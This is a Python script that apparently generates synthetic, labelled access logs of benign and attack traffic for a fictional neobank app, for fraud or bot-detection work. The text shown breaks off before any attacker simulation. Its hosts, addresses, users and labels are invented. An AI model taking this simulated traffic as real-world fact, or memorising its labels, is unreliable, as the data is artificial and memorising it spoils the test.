#!/usr/bin/env python3
"""Labelled access-log traffic of a mobile wallet / neobank.  wallet.py SEED OUTDIR   (standard library only)"""
import sys, os, json, math, random, hashlib, uuid, bisect
from collections import Counter

SEED = int(sys.argv[1]); OUT = sys.argv[2]
R = random.Random(f"wallet-g{SEED}")
T0 = 1781481600.0                       # 2026-06-15T00:00:00Z, a Monday
H, D = 3600.0, 86400.0

# ---------------------------------------------------------------- parameters of this world
P = dict(
    days=R.choice([3, 3, 4, 2.5, 3.5]),
    users=R.randint(700, 2400),
    ios=R.uniform(.28, .66),
    attest=R.uniform(.85, .95),
    target=R.randint(57000, 71000),     # app events wanted
    access_life=R.choice([300, 300, 600]),
    release=R.random() < .6,
    att_outage=R.random() < .55,
    api_outage=R.random() < .75,
    promo=R.random() < .7,
    bound=R.random() < .4,              # attestation token bound to Authorization
    api_key=R.random() < .6,            # app sends an API key
    phone_in_path=R.random() < .6,
    latlon=R.random() < .6,
    country=R.choice(["GB", "DE", "BR", "ES", "ID", "FR"]),
    attack_mult=R.uniform(.36, .5),
    v6=R.uniform(.25, .6),
)
if SEED == 1: P["days"] = 3
END = T0 + P["days"] * D
TZ = {"GB": 1, "DE": 2, "BR": -3, "ES": 2, "ID": 7, "FR": 2}[P["country"]]
CC = {"GB": "+447", "DE": "+4917", "BR": "+55119", "ES": "+346", "ID": "+62812", "FR": "+336"}[P["country"]]
AUTH, API = R.choice([("auth.pocketa.example", "api.pocketa.example"), ("id.nuvo.example", "api.nuvo.example"),
                      ("login.kestrelbank.example", "gw.kestrelbank.example")])
APPN = AUTH.split(".")[1].capitalize()
REL_AT = T0 + (1 + R.random() * (P["days"] - 2)) * D if P["release"] else END + D
OLDV, CURV, NEWV = "7.2.1", R.choice(["7.9.0", "7.9.2"]), "7.10.0"
PROMO_AT = T0 + (R.randint(1, int(P["days"]) - 1)) * D + (18 - TZ) * H if P["promo"] else None
ATT_OUT = []
if P["att_outage"]:
    a = T0 + R.uniform(1, P["days"] - .3) * D; ATT_OUT.append((a, a + R.uniform(15, 50) * 60, R.choice(["ios", "android", "both"])))
API_OUT = []
if P["api_outage"]:
    a = T0 + R.randint(0, int(P["days"]) - 1) * D + R.uniform(9, 20) * H - TZ * H
    API_OUT.append((a, a + R.uniform(4, 16) * 60, R.choice(["/v3/transfers", "/v3/accounts", "/v3/"])))
POLL = R.choice([30, 45, 60, None])

# ---------------------------------------------------------------- network
ISPS = {  # country: [(asn, consumer /16s)]
    "GB": [(2856, ["86.128", "86.145", "81.157"]), (5607, ["90.192", "94.5"]), (5089, ["82.20", "80.4"])],
    "DE": [(3320, ["84.150", "87.160", "91.12"]), (6805, ["77.180", "95.112"]), (31334, ["88.130", "95.88"])],
    "BR": [(28573, ["177.32", "179.210", "189.60"]), (18881, ["177.98", "191.34"]), (27699, ["187.56", "200.158"])],
    "ES": [(3352, ["83.44", "88.12", "79.144"]), (12479, ["85.48", "90.168"]), (12430, ["77.224", "46.24"])],
    "ID": [(7713, ["36.72", "125.160", "180.244"]), (23700, ["118.136", "139.192"]), (17451, ["103.28", "202.137"])],
    "FR": [(3215, ["90.0", "86.192", "92.128"]), (12322, ["82.64", "78.192"]), (15557, ["93.0", "79.80"])],
    "US": [(7922, ["73.22", "98.200"]), (7018, ["99.44", "108.64"])], "VN": [(45899, ["113.160", "14.160"])],
    "IN": [(24560, ["122.160", "171.48"]), (55836, ["49.36", "157.32"])], "NG": [(29465, ["105.112", "197.210"])],
    "RU": [(12389, ["95.24", "178.64"])], "TR": [(9121, ["78.160", "88.224"])], "PL": [(5617, ["83.0", "79.184"])],
    "IT": [(3269, ["79.0", "87.0"])], "PT": [(3243, ["81.84", "85.240"])], "TH": [(23969, ["125.24", "1.4"])],
}
MOBILE = {"GB": [12576, 25135, 206067], "DE": [3320, 3209, 6805], "BR": [26599, 26615, 22085], "ES": [3352, 12430, 12479],
          "ID": [23693, 24203, 4761], "FR": [3215, 15557, 5410]}
CITY = {"GB": (51.5, -.1), "DE": (52.5, 13.4), "BR": (-23.5, -46.6), "ES": (40.4, -3.7), "ID": (-6.2, 106.8), "FR": (48.9, 2.3),
        "US": (40.7, -74), "VN": (10.8, 106.7), "IN": (19.1, 72.9), "NG": (6.5, 3.4), "RU": (55.8, 37.6), "TR": (41, 29), "PL": (52.2, 21),
        "IT": (41.9, 12.5), "PT": (38.7, -9.1), "TH": (13.8, 100.5), "NL": (52.4, 4.9), "FI": (60.2, 24.9), "SG": (1.3, 103.8)}
HOSTING = [(14061, "US", ["167.99", "159.65", "134.209"]), (16276, "FR", ["51.68", "54.36", "145.239"]), (24940, "FI", ["65.108", "95.216", "135.181"]),
           (9009, "NL", ["185.245", "194.187", "89.44"]), (20473, "SG", ["45.76", "139.180"]), (63949, "US", ["172.104", "139.162"]),
           (16509, "US", ["3.120", "18.194", "52.58"]), (396982, "US", ["34.90", "35.204"])]
HC = P["country"]

class Net(tuple): pass
def net(ip, cc, asn, jitter=True):
    la, lo = CITY[cc]
    return (ip, cc, asn, round(la + (R.uniform(-1.5, 1.5) if jitter else 0), 2), round(lo + (R.uniform(-1.5, 1.5) if jitter else 0), 2))
def v4(p16): return f"{p16}.{R.randint(0,255)}.{R.randint(1,254)}"
def isp_ip(cc):
    asn, ps = R.choice(ISPS[cc]); return net(v4(R.choice(ps)), cc, asn)
def hosting(same24=None):
    asn, cc, ps = R.choice(HOSTING)
    return net(v4(R.choice(ps)), cc, asn, False)
def near(n):  # another address of the same /24
    return (n[0].rsplit(".", 1)[0] + f".{R.randint(1,254)}",) + n[1:]
def hex4(): return f"{R.randint(1,0xffff):x}"

CGN = []
for asn in MOBILE[HC]:
    p = R.choice(R.choice(ISPS[HC])[1]); thirds = R.sample(range(256), 3)
    CGN.append((asn, [net(f"{p}.{R.choice(thirds)}.{R.randint(1,254)}", HC, asn) for _ in range(R.randint(14, 45))], R.random() < P["v6"],
                f"2a0{R.randint(0,9)}:{hex4()}:{hex4()}"))
WIFI = [isp_ip(HC) for _ in range(18)]
OFFICES = [[isp_ip(HC) for _ in range(R.choice([1, 1, 2]))] for _ in range(14)]
VPNX = [net(v4("185.245"), "NL", 9009, False) for _ in range(5)] + [net(v4("89.44"), "PL", 9009, False) for _ in range(3)]
HOMES = []   # all homes' addresses, to let residential proxies collide with real homes

def home():
    n = isp_ip(HC)
    if R.random() < P["v6"] * .6:
        n = (f"2a0{R.randint(0,9)}:{hex4()}:{hex4()}:{hex4()}::",) + n[1:]
    h = {"n": n, "dyn": R.random() < .15}
    HOMES.append(h); return h

def mobile_ip(carrier, salt, t):
    asn, pool, v6, pre = carrier
    k = hashlib.md5(f"{SEED}{salt}{int(t / (2.5 * H) + len(str(salt)) * .37 + sum(map(ord, str(salt))) * .137)}".encode()).hexdigest()
    if v6 and int(k[8], 16) < 12:
        return (f"{pre}:{k[:4].lstrip('0') or '1'}::{k[4:8].lstrip('0') or '1'}", HC, asn) + pool[0][3:]
    return pool[int(k[:6], 16) % len(pool)]
def resi(home_share=.7):
    r = R.random()
    if r < .08 and HOMES:
        n = R.choice(HOMES)["n"]
        if not n[0].endswith("::"): return n
    if r < home_share: return isp_ip(HC)
    return isp_ip(R.choice(["US", "VN", "IN", "NG", "RU", "TR", "PL", "IT", "BR", "ID"]))
def mobproxy(): return mobile_ip(R.choice(CGN), R.random(), 0)

# ---------------------------------------------------------------- events
EV = []
SKEW = [0, 0, 0, R.choice([.7, -.35, .25])]      # one gateway node with a bad clock
JA4 = {"ios": ["t13d2014h2_a09f3c656075_14788d8d241b", "t13d2013h2_a09f3c656075_7f0f34a4126d"],
       "android": ["t13d1516h2_acb858a92679_02713d6af862", "t13d1411h2_e8a523a41297_ef7df7f74e48"],
       "python": ["t13d1812h1_85036bcba153_b26ce05bbdd6"], "go": ["t13d1312h2_f57a46bbacb6_e7c285222651"],
       "node": ["t13d5911h1_a33745022dd6_1f22a2ca17c4"], "curl": ["t13d3012h2_1d37bd780c83_b26ce05bbdd6"],
       "web": ["t13d1516h2_8daaf6152771_d8a2da3f94cd", "t13d1517h2_8daaf6152771_b0da82dd1658"], "java": ["t13d2611h2_6a1fc3b5dd5c_d41ae481755e"]}
LAT = {"/oauth/token": .045, "/v2/login": .25, "/v2/otp/send": .4, "/v3/transfers": .3, "/v3/contacts/sync": .5, "/v3/statements": .9, "/m/v1/settlements": .6}

class Actor:
    def __init__(s, kind, caller, ip, ua, ja4, platform=None, key=None, ver=None, user=None, sess=None, dev=None, att="none", instance="", victim=False):
        s.__dict__.update(locals()); del s.__dict__["s"]
        s.label = "attack" if instance else "benign"
        s.tok, s.tok_exp, s.acc_exp, s.subj = None, 0, 0, None
        s.p_missing, s.p_expired = .004, .003
        s.node = R.randrange(4)
    def addr(s, t): return s.ip(t) if callable(s.ip) else s.ip
    def attest(s, t):
        m = s.att
        if m == "genuine":
            for a, b, pl in ATT_OUT:
                if a < t < b and pl in ("both", s.platform) and R.random() < .85: return "missing", None, None
            r = R.random()
            if r < s.p_missing: return "missing", None, None
            if t > s.tok_exp:
                s.tok, s.tok_exp = "%016x" % R.getrandbits(64), t + 300 - R.random() * 20
            if r < s.p_missing + s.p_expired: return "expired", "expired", s.tok
            return "genuine", None, s.tok
        if m == "failed":
            if t > s.tok_exp: s.tok, s.tok_exp = "%016x" % R.getrandbits(64), t + 300
            return "failed", "signature", s.tok
        if callable(m): return m(t)
        return m, None, None

def emit(a, t, host, method, path, status, query=None, subj=None, size=None, dur=None, user=True, kind=None):
    if not (T0 <= t < END): return
    n = a.addr(t)
    e = {"time": int((t + (SKEW[R.randrange(4)] if R.random() < .3 else 0)) * 1000), "event_id": None, "server.address": host, "http.request.method": method, "url.path": path,
         "http.response.status_code": status, "client.address": n[0], "geo.country": n[1], "network.asn": n[2]}
    if P["latlon"]: e["geo.location.lat"], e["geo.location.lon"] = n[3], n[4]
    if query: e["url.query"] = query
    if a.ua: e["user_agent.original"] = a.ua
    if a.ja4: e["tls.client.ja4"] = a.ja4
    if user and a.user: e["user.id"] = a.user
    if a.sess: e["session.id"] = a.sess
    if a.dev: e["device.id"] = a.dev
    if a.key: e["api.client"] = a.key
    if a.ver: e["app.version"] = a.ver
    if subj: e["login.subject"] = subj
    st, code, tok = a.attest(t)
    if st: e["attestation.status"] = st
    if code: e["attestation.code"] = code
    if tok: e["attestation.token"] = tok; e["attestation.issuer"] = "app"
    base = next((v for k, v in LAT.items() if path.startswith(k)), .06)
    e["http.server.request.duration"] = round(dur or base * math.exp(R.gauss(0, .5)), 4)
    if method != "GET": e["http.request.size"] = int(350 * math.exp(R.gauss(0, .5)))
    e["http.response.size"] = size or (0 if status in (204, 304) else int((1800 if status < 300 and method == "GET" else 220) * math.exp(R.gauss(0, .6))))
    lab = {"event_id": None, "label": a.label, "kind": kind or a.kind, "instance": a.instance, "caller": a.caller}
    if a.platform: lab["platform"] = a.platform
    if a.victim: lab["victim"] = True
    EV.append((e["time"], R.random(), e, lab, a))

def ex(m): return R.expovariate(1 / m)
def think(m=6): return min(90, m * math.exp(R.gauss(-.2, .8)))
def uid(): return "usr_" + "".join(R.choices("0123456789abcdefghjkmnpqrstvwxyz", k=16))
def hx(k): return "%0*x" % (k, R.getrandbits(4 * k))
def uu(): return str(uuid.UUID(int=R.getrandbits(128), version=4))
def phone(): return CC + "".join(R.choices("0123456789", k=8))
def txid(): return str(9_400_000_000 + R.randrange(60_000_000))
ACC_BASE = R.randint(10_200_000, 30_000_000); ACC_N = 90_000
def accid(): return str(ACC_BASE + R.randrange(ACC_N))
def code(): return "".join(R.choices("ABCDEFGHJKLMNPQRSTUVWXYZ23456789", k=8))
def lookup(ph): return ("/v3/users/by-phone/" + ph.replace("+", "%2B"), None) if P["phone_in_path"] else ("/v3/contacts/lookup", "phone=" + ph.replace("+", "%2B"))

# ---------------------------------------------------------------- the app
AND = ["SM-S921B", "SM-A546B", "SM-A155F", "Pixel 8", "Pixel 7a", "2201117TG", "23028RN4DG", "moto g84", "CPH2529", "SM-S918B", "M2101K6G", "RMX3761"]
IPH = ["iPhone14,5", "iPhone15,2", "iPhone15,4", "iPhone16,1", "iPhone13,2", "iPhone17,3", "iPhone12,8", "iPhone18,1"]
def app_ua(pl, ver, model=None, osv=None):
    b = ver.replace(".", "") + "0"
    if pl == "ios": return f"{APPN}/{ver} ({model or R.choice(IPH)}; iOS {osv or R.choice(['18.5','18.6','26.3','26.4','26.4.1'])}; build {b}) CFNetwork/3826.500.131 Darwin/24.5.0"
    return f"{APPN}/{ver} (Android {osv or R.choice(['12','13','14','14','15','15','16'])}; {model or R.choice(AND)}; build {b}) okhttp/4.12.0"
def app_key(pl, gen=2): return f"{APPN.lower()}-{'ios' if pl=='ios' else 'and'}-{gen}" if P["api_key"] else None

class App(Actor):
    """A running installation: access token that lives minutes, retry, outage behaviour."""
    retry = True
    def setup(s, accs=None, cards=None):
        s.accs = accs or [accid() for _ in range(R.choice([1, 1, 1, 2, 3]))]
        s.cards = cards or ["crd_" + hx(12) for _ in range(R.choice([1, 1, 2]))]
        s.model = R.choice(IPH if s.platform == "ios" else AND); s.osv = R.choice(['18.5', '26.3', '26.4', '26.4.1']) if s.platform == "ios" else R.choice(['12', '13', '14', '15', '15', '16'])
        s.rel_at = REL_AT + ex(10 if s.platform == "ios" else 22) * H if R.random() < .85 else END + D
        s.payees = [uu() for _ in range(R.randint(2, 9))]; s.slow401 = R.random() < .2
        s.ver = s.ver or CURV; s.ua = app_ua(s.platform, s.ver, s.model, s.osv); s.lastbig = 0
        return s
    def upd(s, t):
        if s.ver == CURV and t > s.rel_at: s.ver = NEWV; s.ua = app_ua(s.platform, NEWV, s.model, s.osv)
    def refresh(s, t):
        st = 200 if R.random() > .003 else R.choice([503, 400])
        emit(s, t, AUTH, "POST", "/oauth/token", st, user=False)
        if st != 200: t += 2 + ex(1); emit(s, t, AUTH, "POST", "/oauth/token", 200, user=False)
        s.acc_exp = t + P["access_life"]; return t + .12 + ex(.15)
    def call(s, t, m, path, status=200, host=None, **kw):
        host = host or API
        if s.user and host == API and t > s.acc_exp:
            if s.slow401: emit(s, t, host, m, path, 401, kw.get("query")); t += .15
            t = s.refresh(t)
        for a, b, pre in API_OUT:
            if a < t < b and path.startswith(pre) and host == API:
                k = 0
                while R.random() < .55 and k < 4:
                    emit(s, t, host, m, path, R.choice([503, 503, 504, 502]), kw.get("query"), dur=R.choice([.02, 5.0, 10.0])); t += 2 ** k + R.random(); k += 1
        if R.random() < .0025: emit(s, t, host, m, path, R.choice([500, 502, 503, 504]), kw.get("query")); t += 1 + R.random()
        emit(s, t, host, m, path, status, **kw); return t
    def par(s, t, calls):
        """several calls of one screen at nearly the same time"""
        end = t
        if s.user and t > s.acc_exp and not s.slow401: t = s.refresh(t)
        for c in calls:
            m, p, st = (c + (200,))[:3]; q = c[3] if len(c) > 3 else None
            end = max(end, s.call(t + ex(.12), m, p, st, query=q))
        return end

    # screens: each returns the time it ends
    def open(s, t, cold=True):
        s.upd(t)
        if cold and R.random() < .6: t = s.call(t, "GET", "/v3/config", R.choice([200, 304, 304]), query=f"v={s.ver}") + .2
        return s.home(t)
    def home(s, t):
        a = s.accs[0]
        if s.ver == NEWV: return s.par(t, [("GET", "/v4/home"), ("GET", "/v3/notifications", R.choice([200, 304]), "unread=1")])
        c = [("GET", "/v3/me", R.choice([200, 304])), ("GET", "/v3/accounts"), ("GET", f"/v3/accounts/{a}/transactions", 200, "limit=10"), ("GET", "/v3/cards", R.choice([200, 304]))]
        if R.random() < .5: c.append(("GET", "/v3/notifications", 200, "unread=1"))
        if R.random() < .35: c.append(("GET", "/v3/offers", R.choice([200, 304]), "placement=home"))
        return s.par(t, c)
    def history(s, t):
        a = R.choice(s.accs); base = "/v4/activity" if s.ver == NEWV else f"/v3/accounts/{a}/transactions"
        q = f"account={a}&" if s.ver == NEWV else ""
        for k in range(R.choice([1, 1, 2, 2, 3, 5])):
            t = s.call(t, "GET", base, query=q + ("limit=30" if not k else f"cursor={hx(10)}&limit=30")) + think(4)
            if R.random() < .35: t = s.call(t, "GET", f"/v3/transactions/{txid()}") + think(5)
        return t
    def stepup(s, t):
        if R.random() < .04: emit(s, t, AUTH, "POST", "/v2/step-up", 401); t += think(4)
        emit(s, t, AUTH, "POST", "/v2/step-up", 200); return t + .3
    def card(s, t):
        c = R.choice(s.cards); t = s.call(t, "GET", f"/v3/cards/{c}") + think(4); r = R.random()
        if r < .25: t = s.stepup(t); t = s.call(t, "GET", f"/v3/cards/{c}/pan") + think(10)
        elif r < .4: t = s.call(t, "POST", f"/v3/cards/{c}/freeze") + think(8); t = s.call(t, "POST", f"/v3/cards/{c}/unfreeze") if R.random() < .6 else t
        elif r < .52: t = s.stepup(t); t = s.call(t, "PATCH", f"/v3/cards/{c}/limits", R.choice([200, 200, 200, 422]))
        return t
    def transfer(s, t, newpayee=None):
        t = s.par(t, [("GET", "/v3/payees"), ("GET", "/v3/accounts")]) + think(5)
        if newpayee if newpayee is not None else R.random() < .2:
            for _ in range(R.choice([1, 1, 1, 2])):
                p, q = lookup(phone()); t = s.call(t, "GET", p, R.choice([200, 200, 404]), query=q) + think(6)
            t = s.call(t, "POST", "/v3/payees", R.choice([201, 201, 201, 422])) + think(4)
        t = s.call(t, "POST", "/v3/transfers/quote", R.choice([200] * 12 + [422])) + think(7)
        t = s.stepup(t); st = R.choice([201] * 20 + [409, 422, 402]); tid = uu()
        t = s.call(t, "POST", "/v3/transfers", st)
        if st == 201:
            for _ in range(R.choice([1, 1, 2, 2, 3, 5])): t += 1.5 + R.random() * .2; t = s.call(t, "GET", f"/v3/transfers/{tid}")
            t = s.home(t + think(3))
        return t
    def contacts(s, t):
        t = s.call(t, "GET", "/v3/payees") + think(3)
        for _ in range(R.choice([1, 1, 2, 3])):
            p, q = lookup(phone()); t = s.call(t, "GET", p, R.choice([200, 200, 404]), query=q) + think(5)
        return t
    def sync(s, t, n=None):
        for k in range(n or R.choice([1, 2, 3, 4, 6])): t = s.call(t, "POST", "/v3/contacts/sync", query=f"batch={k}") + .6 + ex(.3)
        return t
    def coupon(s, t):
        t = s.par(t, [("GET", "/v3/referrals"), ("GET", "/v3/offers", 200, "placement=rewards")]) + think(8)
        while R.random() < .35: t = s.call(t, "POST", "/v3/coupons/redeem", R.choice([404, 404, 422, 409])) + think(9)
        if R.random() < .5: t = s.call(t, "POST", "/v3/coupons/redeem", 200) + think(4)
        elif R.random() < .3: t = s.call(t, "GET", f"/v3/referrals/{code()}")
        return t
    def statement(s, t):
        t = s.call(t, "GET", "/v3/statements", query=f"account={s.accs[0]}") + think(5)
        for _ in range(R.choice([1, 1, 2, 3])): t = s.call(t, "GET", f"/v3/statements/{int(s.accs[0]) * 12 + R.randrange(12)}", size=90000 + R.randrange(200000)) + think(12)
        return t
    def qr(s, t):
        h = "".join(R.choices("abcdefghijklmnoprstuvw", k=R.randint(5, 11)))
        t = s.call(t, "GET", f"/v3/handles/{h}", R.choice([200, 200, 200, 404])) + think(5); t = s.stepup(t)
        t = s.call(t, "POST", "/v3/qr/pay", R.choice([201] * 12 + [402, 409])) + 1.2; return s.call(t, "GET", f"/v3/transactions/{txid()}")
    def topup(s, t):
        t = s.call(t, "GET", "/v3/topups/methods") + think(6)
        for _ in range(3):
            st = R.choice([201] * 8 + [402, 402]); t = s.call(t, "POST", "/v3/topups", st) + think(10)
            if st == 201: break
        return s.home(t)
    def support(s, t):
        t = s.call(t, "POST", "/v3/support/chats", 201) + 2; c = hx(10)
        for _ in range(R.randint(4, 22)):
            t = s.call(t, "GET", f"/v3/support/chats/{c}/messages", query=f"after={R.randrange(99)}") + 10 + R.random()
            if R.random() < .25: t = s.call(t, "POST", f"/v3/support/chats/{c}/messages", 201) + 1
        return t
    def fx(s, t):
        for _ in range(R.choice([1, 2, 3])): t = s.call(t, "GET", "/v3/fx/rates", query="base=EUR") + think(8)
        return t
    def nearby(s, t):
        for _ in range(R.choice([1, 2, 4])): t = s.call(t, "GET", "/v3/merchants/search", query=f"q={hx(4)}&lat=1&lon=1") + think(4)
        return t
    def settings(s, t):
        t = s.par(t, [("GET", "/v3/me/settings"), ("GET", "/v3/me/devices")]) + think(7)
        return s.call(t, "PATCH", "/v3/me/settings", R.choice([200, 422])) if R.random() < .4 else t
    def login(s, t, typo=.08, ok=True):
        while R.random() < typo: emit(s, t, AUTH, "POST", "/v2/login", 401, subj=s.subj, user=False); t += think(5)
        emit(s, t, AUTH, "POST", "/v2/login", 200, subj=s.subj, user=False)
        s.sess = hx(24); s.acc_exp = t + P["access_life"]; return t + .4
    def otp(s, t):
        emit(s, t, AUTH, "POST", "/v2/otp/send", 202, subj=s.subj, user=False); t += 8 + ex(9)
        if R.random() < .14: t += 25 + ex(15); emit(s, t, AUTH, "POST", "/v2/otp/send", R.choice([202, 202, 429]), subj=s.subj, user=False); t += 9 + ex(9)
        while R.random() < .11: emit(s, t, AUTH, "POST", "/v2/otp/verify", 400, subj=s.subj, user=False); t += think(7)
        emit(s, t, AUTH, "POST", "/v2/otp/verify", 200, subj=s.subj, user=False); return t + .5
    def enroll(s, t):
        s.sess = None; u, s.user = s.user, None
        t = s.call(t, "GET", "/v3/config", query=f"v={s.ver}") + think(12); s.sess = s.sess or None
        emit(s, t, AUTH, "POST", "/v2/login", 200, subj=s.subj); t += 1
        t = s.otp(t); s.user, s.sess = u, hx(24); s.acc_exp = t + P["access_life"]
        emit(s, t, AUTH, "POST", "/v2/devices/enroll", 201); t += .6
        return s.call(t, "POST", "/v3/push/register", 204) + 1
    def signup(s, t, kyc=True):
        u, s.user = s.user, None; s.sess = None
        t = s.call(t, "GET", "/v3/config", query=f"v={s.ver}") + think(20)
        emit(s, t, AUTH, "POST", "/v2/signup/start", 202, subj=s.subj); t += 2
        t = s.otp(t) + think(30); s.sess = hx(24)
        emit(s, t, AUTH, "POST", "/v2/signup/complete", 201, subj=s.subj); t += 1
        s.user = u; s.acc_exp = t + P["access_life"]
        emit(s, t, AUTH, "POST", "/v2/devices/enroll", 201); t = s.call(t + 1, "POST", "/v3/push/register", 204) + think(15)
        if kyc:
            t = s.call(t, "POST", "/v3/kyc/documents", R.choice([201, 201, 422])) + 20 + ex(20)
            if R.random() < .3: t = s.call(t, "POST", "/v3/kyc/documents", 201) + 10
            for _ in range(R.choice([2, 3, 5])): t = s.call(t, "GET", "/v3/kyc/status") + 4
        return s.home(t)
    SCREENS = [("history", 26), ("card", 10), ("transfer", 13), ("contacts", 3), ("coupon", 3), ("statement", 1.5), ("qr", 7), ("topup", 3), ("support", .8), ("fx", 4), ("nearby", 2), ("settings", 2), ("home", 7)]
    def visit(s, t, login=False, w=None, n=None):
        s.upd(t); start = t
        if login: t = s.login(t)
        t = s.open(t) + think(6)
        names = [x[0] for x in s.SCREENS]; ws = [x[1] * (w or {}).get(x[0], 1) for x in s.SCREENS]
        n = n if n is not None else min(12, int(ex(1.7)))
        for _ in range(n):
            t0 = t; t = getattr(s, R.choices(names, ws)[0])(t) + think(6)
            if POLL and t - s.lastbig > POLL and R.random() < .5: t = s.call(t, "GET", "/v3/notifications", R.choice([200, 304, 304]), query="unread=1") + 1; s.lastbig = t
        if R.random() < .8: t = s.call(t, "POST", "/v3/telemetry", 202) + .5
        return t
    def background(s, t):
        s.upd(t); om = s.p_missing; s.p_missing = .015
        t = s.call(t, "GET", "/v3/notifications", R.choice([200, 304, 304]), query="since=1")
        if R.random() < .35: t = s.call(t + .2, "GET", "/v3/accounts")
        s.p_missing = om; return t
    def cardpush(s, t):       # a push after a card payment is opened
        return s.call(s.call(t, "GET", f"/v3/transactions/{txid()}") + think(3), "POST", "/v3/telemetry", 202)

# ---------------------------------------------------------------- benign people
DIURNAL = [2, 1, .6, .5, .6, 1.5, 4, 7, 9, 8, 7.5, 7.5, 9, 8.5, 7, 7, 7.5, 9, 10, 10, 9.5, 8, 6, 4]
def local_time(day, w=DIURNAL):
    h = R.choices(range(24), w)[0]; return T0 + day * D + (h - TZ) * H + R.random() * H
def is_work(t): lt = (t + TZ * H) % D / H; return 8.5 < lt < 17.5

class Person:
    def __init__(s, i, hh=None):
        s.i, s.name = i, f"person-{i:05d}"
        s.home = hh or home(); s.carrier = R.choice(CGN); s.office = R.choice(OFFICES) if R.random() < .25 else None
        s.vpn = R.choice(VPNX) if R.random() < .03 else None
        s.abroad = None; s.user = uid(); s.subj = phone(); s.loc = {}
        s.wifi = R.random() < .85; s.kind = "app-user"
    def where(s, t):
        slot = int(t // 900)
        if slot not in s.loc:
            r = R.random()
            if s.abroad and t > s.abroad[0]: n = s.abroad[1] if r < .6 else s.abroad[2]
            elif s.vpn and r < .8: n = s.vpn
            elif s.office and is_work(t) and r < .75: n = R.choice(s.office)
            elif is_work(t): n = None if r < .62 else (R.choice(WIFI) if r < .68 else s.home)
            else: n = s.home if s.wifi and r < .75 else None
            s.loc[slot] = n
        n = s.loc[slot]
        if n is None: return mobile_ip(s.carrier, s.name, t)
        if isinstance(n, dict):
            a = n["n"]
            if a[0].endswith("::"):
                k = hashlib.md5(f"{s.name}{int(t // D)}".encode()).hexdigest(); return (a[0][:-1] + ":".join((k[j:j+4].lstrip('0') or '1') for j in (0, 4, 8, 12)),) + a[1:]
            if n["dyn"]:
                k = int(hashlib.md5(f"{a[0]}{int((t - 2 * H) // D)}".encode()).hexdigest()[:6], 16); pr = a[0].split(".")
                return (f"{pr[0]}.{pr[1]}.{k % 256}.{1 + k // 256 % 254}",) + a[1:]
            return a
        return n

def mkapp(p, pl, att, ver=None, kind=None, dev=None):
    gen = 2
    if att == "none": gen = 0
    a = App(kind or p.kind, p.name, p.where, None, R.choice(JA4[pl]), pl, app_key(pl, gen), ver, p.user, hx(24), dev or (uu().upper() if pl == "ios" else uu()), att).setup()
    if att == "none" and not P["api_key"]: a.att = "missing"      # the gateway cannot tell old apps from silent ones
    a.subj = p.subj; return a

people, apps = [], []
NU = P["users"]
last_home = None
for i in range(NU):
    hh = last_home if last_home and R.random() < .22 else None
    p = Person(i, hh); last_home = p.home; people.append(p)
    pl = "ios" if R.random() < P["ios"] else "android"
    p.platform = pl
    r = R.random()
    if r < P["attest"]: a = mkapp(p, pl, "genuine")
    else:
        q = R.random()
        if q < .70: a = mkapp(p, pl, "none", OLDV if R.random() < .75 else CURV, kind="old-or-unattestable-app")
        elif q < .86: a = mkapp(p, "android", "missing", kind="degoogled-user"); p.platform = "android"
        else: a = mkapp(p, pl, "failed", kind="rooted-user")
    p.app = a; apps.append(a)
    if R.random() < .02 and a.att == "genuine": a.p_expired = .18; a.kind = "clock-skew-user"
    p.login_each = R.random() < .13
    p.lam = math.exp(R.gauss(0, .9)); p.w = None; p.n = None; p.bg = R.choice([0, 1, 2, 3, 5])

# special people
pool = [p for p in people if p.app.att == "genuine" and p.app.kind == "app-user"]; R.shuffle(pool)
take = lambda k: [pool.pop() for _ in range(k)]
for p in take(int(NU * .012)): p.kind = p.app.kind = "power-user"; p.lam *= 5; p.bg = 8
for p in take(int(NU * .008)): p.kind = p.app.kind = "small-business"; p.lam = 3.5; p.w = {"transfer": 5, "statement": 8, "history": 2}; p.n = 8
for p in take(int(NU * .006)): p.kind = p.app.kind = "bill-splitter"; p.w = {"contacts": 14, "transfer": 3}; p.n = 6
travellers = take(int(NU * .02))
for p in travellers:
    p.kind = p.app.kind = "traveller"; cc = R.choice([c for c in ("US", "IT", "PT", "TH", "TR", "FR", "ES", "GB") if c != HC])
    p.abroad = (T0 + R.uniform(.2, P["days"]) * D, isp_ip(cc), isp_ip(cc) if R.random() < .5 else mobile_ip(p.carrier, p.name, 0)); p.w = {"fx": 6, "card": 2}; p.lam *= 1.5
newphones = take(int(NU * .012)); signups = take(int(NU * .03)); forgetful = take(int(NU * .008)); buggy = take(max(2, int(NU * .0025)))
for g, k in ((newphones, "new-phone"), (signups, "new-user"), (forgetful, "forgot-passcode"), (buggy, "buggy-client")):
    for p in g: p.kind = p.app.kind = k
for p in signups: p.start = local_time(R.uniform(0, P["days"]) // 1)
VICTIMS = take(60)                      # reserve; only those used become victims
# a phone shared by two people
for _ in range(max(3, int(NU * .004))):
    a, b = take(2); b.app.dev, b.app.platform = a.app.dev, a.app.platform; b.app.key = a.app.key; b.app.model, b.app.osv = a.app.model, a.app.osv
    b.app.ua = app_ua(b.app.platform, b.app.ver, b.app.model, b.app.osv); b.app.ja4 = a.app.ja4
    for x in (a, b): x.login_each = True; x.app.kind = x.kind = "shared-phone"; x.home = a.home

EVV = 15                               # events per visit with its background, measured
scale = (P["target"] - 1.7 * .45 * P["days"] * sum(p.bg for p in people)) / (EVV * sum(p.lam for p in people) * P["days"])
def plan(p, until=END):
    """everything this person does by chance, as (time, function)"""
    start = getattr(p, "start", T0); todo = []
    for day in range(-1, int(math.ceil(P["days"])) + 1):
        for _ in range(poisson(p.lam * scale)): todo.append((local_time(day), lambda t, a: a.visit(t, login=p.login_each and R.random() < .7, w=p.w, n=p.n and int(ex(p.n)))))
        for _ in range(poisson(p.bg * .45)): todo.append((T0 + day * D + R.random() * D, lambda t, a: (a.background if R.random() < .75 else a.cardpush)(t)))
    return [x for x in todo if start < x[0] < until]
def run(p, todo):
    last = 0
    for t, f in sorted(todo, key=lambda x: x[0]):
        last = f(max(t, last + 1 if last - t < 600 else t), p.app) or t
def poisson(l):
    k, q, e = 0, 1.0, math.exp(-min(l, 30))
    while True:
        q *= R.random()
        if q < e: return k
        k += 1

TODO = {p.i: [] for p in people}
def first(p):
    def f(t, a):
        t = a.signup(t)
        if R.random() < .7: t = a.sync(t)
        if R.random() < .5: t = a.call(t + 5, "POST", "/v3/coupons/redeem", R.choice([200, 200, 404]))
        return t
    return f
for p in signups: TODO[p.i].append((p.start, first(p)))
for p in forgetful:
    def f(t, a):
